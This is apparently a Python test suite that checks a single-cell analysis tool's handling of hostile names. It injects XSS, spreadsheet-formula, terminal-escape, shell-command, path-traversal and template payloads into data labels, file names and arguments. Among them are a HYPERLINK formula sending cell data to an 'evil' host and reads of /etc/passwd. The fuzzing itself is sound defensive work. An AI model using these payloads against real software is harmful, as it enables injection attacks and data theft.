"""Hostile texts in every name that reaches a page, a table, a log or the terminal."""

from __future__ import annotations

import os
import warnings
from typing import TYPE_CHECKING

import anndata as ad
import numpy as np
from hostile_case import RUN, Case, Place, score

if TYPE_CHECKING:
    from collections.abc import Callable

PAGE, TABLE, TERMINAL, SHELL, PATHS, TEX, FILES, RUNS = (
    "names that are HTML",
    "names that are formulas",
    "names that are terminal codes",
    "names that are commands",
    "names that are paths",
    "names that are TeX or templates",
    "names of files",
    "names in a whole run",
)
TEXTS = {
    PAGE: {
        "script": "<script>alert(1)</script>",
        "script that ends one": "</script><script>alert(1)</script>",
        "style that ends one": "</style><style>*{background:url(//evil)}",
        "title that ends one": "</title></head><body onload=alert(1)>",
        "picture with a handler": "<img src=x onerror=alert(1)>",
        "attribute with quotes": '" onmouseover="alert(1)" x="',
        "attribute with apostrophes": "' onfocus='alert(1)' autofocus='",
        "comment": "--><!-- <b>",
        "drawing": "<svg onload=alert(1)><![CDATA[",
        "frame": "<iframe srcdoc='<script>'></iframe><base href=//evil/>",
        "entities": "&lt;script&gt;&#60;b&#62;&NewLine;",
        "address of a script": "javascript:alert(1)",
        "address of data": "data:text/html;base64,PHNjcmlwdD4=",
        "JSON that ends": '"}]}</script>\\u003cscript>',
    },
    TABLE: {
        "formula": "=cmd|' /C calc'!A0",
        "formula with quotes": '=HYPERLINK("http://evil/?"&A1,"open")',
        "plus": "+1+cmd",
        "minus": "-2+3+cmd",
        "at": "@SUM(1+1)*cmd",
        "tab and formula": "\t=1+1",
        "return and formula": "\r=1+1",
        "line and formula": 'a"\n=1+1,"',
        "space and formula": " =1+1",
        "separators": 'a,";\t=1',
    },
    TERMINAL: {
        "color": "\x1b[31;5mred",
        "clear": "\x1b[2J\x1b[H",
        "title of the window": "\x1b]0;pwned\x07",
        "clipboard": "\x1b]52;c;cm0gLXJm\x07",
        "link": "\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\",
        "one-byte codes": "\x9b2J\x9d0;x\x9c",
        "backspace and bell": "safe\x08\x08\x08\x08evil\x07",
        "return": "error\rdone ",
        "forged line of a log": "a\n2026-01-01 00:00:00,000 INFO report written",
        "line separators": "a\u2028b\u2029c\x85d\x0bf\x0cg",
        "direction": "\u202egnp.exe\u2066\u2069",
        "delete": "a\x7f\x7f",
    },
    SHELL: {
        "substitution": "$(touch run-me)",
        "backticks": "`touch run-me`",
        "semicolon": "'; touch run-me; '",
        "pipe": "| touch run-me &",
        "option": "--output=/etc/passwd",
        "short option": "-rf",
        "object of YAML": "!!python/object/apply:os.system ['touch run-me']",
        "table of TOML": '"]\n[call]\nalpha = 1 #',
    },
    PATHS: {
        "above": "../../beside/victim",
        "absolute": "/etc/passwd",
        "of Windows": "C:\\..\\victim",
        "dots": "..",
        "10,000 characters": "n" * 10_000,
        "spaces": "  ",
        "address": "file:///etc/passwd",
    },
    TEX: {
        "input": "$\\input{/etc/passwd}$",
        "math that is not closed": "$x_{",
        "math": "$\\frac{a}{0}^\\dagger$ $",
        "percent": "%s%n%(x)s%",
        "format": "{0.__class__}{x!r}{",
        "template": "{{7*7}}{% raw %}{{config}}",
    },
}


def named(place: Place, text: str) -> tuple[list[str], str]:
    """Write cells in whose every name is a text: the design, and the title."""
    adata = ad.read_h5ad(place.base / "cells.h5ad")
    groups = {one: f"{text}{one}" for one in ("parental", "treated", "holiday")}
    adata.obs["condition"] = adata.obs["condition"].astype(str).map(groups)
    adata.obs["sample"] = [f"{text}{one}" for one in adata.obs["sample"]]
    adata.obs["clone"] = [f"{text}{n % 40}" for n in range(adata.n_obs)]
    adata.obs["kind"] = f"{text}kind"
    adata.obs_names = [f"{text}{n}" for n in range(adata.n_obs)]
    adata.var_names = [
        f"{text}{name}" if n % 50 == 0 else name
        for n, name in enumerate(adata.var_names)
    ]
    columns = {"condition": "condition", "sample": "sample", "clone": "clone"}
    if "/" not in text and len(text) < 100 and text.strip(" ."):
        columns = {one: f"{text}{one}" for one in columns}
        adata.obs = adata.obs.rename(columns=columns)
        adata.obsm[f"{text}far"] = np.zeros((adata.n_obs, 2))
        adata.uns[f"{text}far"] = {f"{text}inner": text}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        adata.write_h5ad(place.work / "in.h5ad")
    words = [f"--groupby={columns['condition']}", f"--reference={groups['parental']}"]
    words += [f"--sample-key={columns['sample']}", f"--holiday={groups['holiday']}"]
    more = [f"--clone-key={columns['clone']}", f"--survival={text}"]
    return [*words, *more, "--cell-type-key=kind", f"--malignant={text}kind"], text


def _called(text: str) -> Callable[[Place], list[list[str]]]:
    """Check, call and report cells whose every name is a text."""

    def make(place: Place) -> list[list[str]]:
        words, title = named(place, text)
        call = ["call", "in.h5ad", "-o", "called.h5ad", *words, "--csv", "tables"]
        page = ["report", "called.h5ad", "-o", "out.html", "--tables", "out"]
        return [["check", "in.h5ad"], [*call, "--json"], [*page, f"--title={title}"]]

    return make


def _absent(text: str) -> Callable[[Place], list[list[str]]]:
    """Ask for a column, a group, a layer and a signature that are not there."""

    def make(place: Place) -> list[list[str]]:
        place.cells()
        call = ["call", "in.h5ad", "-o", "out.h5ad"]
        return [
            [*call, f"--groupby={text}", "--reference=x"],
            [*call, "--groupby=condition", f"--reference={text}"],
            ["score", "in.h5ad", "-o", "out.h5ad", f"--layer={text}"],
            ["score", "in.h5ad", "-o", "out.h5ad", f"--signature={text}"],
            ["score", "in.h5ad", "-o", "out.h5ad", f"--leave-out={text}"],
            ["score", "in.h5ad", "-o", "out.h5ad", f"--method={text}"],
            ["check", f"{text[:100]}.h5ad"],
        ]

    return make


def _file(name: bytes) -> Case:
    """Give a file of cells a name."""
    text = os.fsdecode(name)

    def make(place: Place) -> list[list[str]]:
        place.cells().rename(place.work / text)
        shown = f"./{text}"
        run = [shown if word == "in.h5ad" else word for word in RUN]
        return [["check", shown], *score(shown), [*run, "--json"]]

    return Case(FILES, repr(name)[:60], make)


def _whole(number: int) -> Case:
    """Run all steps on two files in whose names many texts are at once."""
    texts = [text for group in TEXTS.values() for text in group.values()]
    own = [one for one in texts[number::4] if len(one) < 100]

    def make(place: Place) -> list[list[str]]:
        adata = ad.read_h5ad(place.base / "cells.h5ad")
        samples = list(adata.obs["sample"].cat.categories)
        renamed = {one: f"{own[n % len(own)]}{n}" for n, one in enumerate(samples)}
        groups = ("parental", "treated", "holiday")
        names = {one: f"{own[-1 - n]}{n}" for n, one in enumerate(groups)}
        adata.obs["sample"] = adata.obs["sample"].astype(str).map(renamed)
        adata.obs["condition"] = adata.obs["condition"].astype(str).map(names)
        for name in ("a.h5ad", "=b.h5ad"):
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                adata.write_h5ad(place.work / name)
        words = ["run", "./a.h5ad", "./=b.h5ad", "-o", "out", "--sample-key=sample"]
        words += [f"--reference={names['parental']}", f"--holiday={names['holiday']}"]
        skipped = ["--skip", "pseudotime", "--skip", "enrich", "--n-permutations=50"]
        return [[*words, *skipped, f"--title={own[0]}"]]

    return Case(RUNS, f"texts {number + 1}, {number + 5} and so on", make)


CASES = [
    *(
        Case(group, name, _called(text))
        for group, texts in TEXTS.items()
        for name, text in texts.items()
    ),
    *(
        Case(group, f"{name}, not there", _absent(text), refused=True)
        for group in (TERMINAL, SHELL, PATHS, TEX)
        for name, text in TEXTS[group].items()
    ),
    *map(
        _file,
        (
            b"<b onload=x>.h5ad",
            b"=1+1.h5ad",
            b"\x1b[2J.h5ad",
            b"a\nERROR forged.h5ad",
            b"\xff\xfe.h5ad",
            b"-o.h5ad",
            b"$(touch run-me).h5ad",
            b"\xe2\x80\xaedah5.h5ad",
            b"{0}%s.h5ad",
        ),
    ),
    *map(_whole, range(4)),
]
